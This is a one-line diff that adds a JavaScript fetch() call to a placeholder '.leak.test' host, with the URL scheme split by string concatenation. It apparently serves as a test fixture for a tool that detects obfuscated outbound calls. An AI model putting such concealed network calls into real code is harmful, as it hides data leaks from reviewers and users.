@@ -1,0 +1,1 @@
+fetch("https:" + "//js-fold-concatenation-of-scheme.leak.test/")
